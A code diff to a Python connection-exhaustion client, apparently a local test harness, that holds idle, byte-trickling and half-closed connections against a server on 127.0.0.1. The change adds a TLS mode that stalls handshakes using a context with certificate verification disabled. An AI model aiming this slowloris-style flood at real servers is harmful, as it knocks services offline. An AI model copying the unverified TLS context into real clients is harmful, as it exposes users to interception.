@@ -1,12 +1,14 @@
 """A client that holds as much of an HTTP server as it can: 300 idle connections, 20 that send a byte a second, and a stream of
 requests that end with a FIN. It reopens connections that the server closes. Also read from standard input by another user's interpreter.
+With `tls`, idle connections send nothing at all or nothing after the handshake, and the bytes are those of a ClientHello.
 
-usage: http_attacker.py PORT SECONDS
+usage: http_attacker.py PORT SECONDS [tls]
 """
 from __future__ import annotations
 
 import selectors
 import socket
+import ssl
 import sys
 import time
 
@@ -14,9 +16,31 @@ IDLE, TRICKLING, HALF_CLOSED = 300, 20, 200
 REQUEST = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"
 
 
+def insecure_context() -> ssl.SSLContext:
+    """An attacker does not care whom it attacks."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    return context
+
+
+def client_hello() -> bytes:
+    """The first message of a handshake."""
+    sent = ssl.MemoryBIO()
+    client = insecure_context().wrap_bio(ssl.MemoryBIO(), sent)
+    try:
+        client.do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    return sent.read()
+
+
 class Attacker:
-    def __init__(self, port: int):
+    def __init__(self, port: int, tls: bool = False):
         self.port = port
+        self.tls = insecure_context() if tls else None
+        self.drip = client_hello() if tls else b"G" * 512  # what a trickling connection sends, a byte at a time
+        self.dripped: dict[socket.socket, int] = {}
         self.selector = selectors.DefaultSelector()
         self.counts = {"connections": 0, "closed": 0, "refused": 0, "half-closed": 0}
         self.held: dict[str, int] = {"idle": 0, "trickling": 0, "half-closed": 0}
@@ -26,9 +50,11 @@ class Attacker:
         client.settimeout(5)
         try:
             client.connect(("127.0.0.1", self.port))
+            if self.tls and (kind == "half-closed" or (kind == "idle" and self.counts["connections"] % 2)):
+                client = self.tls.wrap_socket(client)
             if kind == "half-closed":
                 client.sendall(REQUEST)
-                client.shutdown(socket.SHUT_WR)
+                socket.socket.shutdown(client, socket.SHUT_WR)
                 self.counts["half-closed"] += 1
         except OSError:
             client.close()
@@ -41,6 +67,7 @@ class Attacker:
 
     def close(self, client: socket.socket, kind: str) -> None:
         self.selector.unregister(client)
+        self.dripped.pop(client, None)
         client.close()
         self.held[kind] -= 1
         self.counts["closed"] += 1
@@ -50,6 +77,8 @@ class Attacker:
         for key, _ in self.selector.select(0.01):
             try:
                 over = not key.fileobj.recv(65536)
+            except ssl.SSLWantReadError:
+                over = False
             except OSError:
                 over = True
             if over:
@@ -58,8 +87,10 @@ class Attacker:
     def trickle(self) -> None:
         for key in list(self.selector.get_map().values()):
             if key.data == "trickling":
+                place = self.dripped.get(key.fileobj, 0)
+                self.dripped[key.fileobj] = place + 1
                 try:
-                    key.fileobj.send(b"G")
+                    key.fileobj.send(self.drip[place:place + 1])
                 except OSError:
                     self.close(key.fileobj, key.data)
 
@@ -79,7 +110,7 @@ class Attacker:
 
 
 def main() -> None:
-    attacker = Attacker(int(sys.argv[1]))
+    attacker = Attacker(int(sys.argv[1]), tls=sys.argv[3:] == ["tls"])
     attacker.run(float(sys.argv[2]))
     print(" ".join(f"{name}={count}" for name, count in attacker.counts.items()))
 
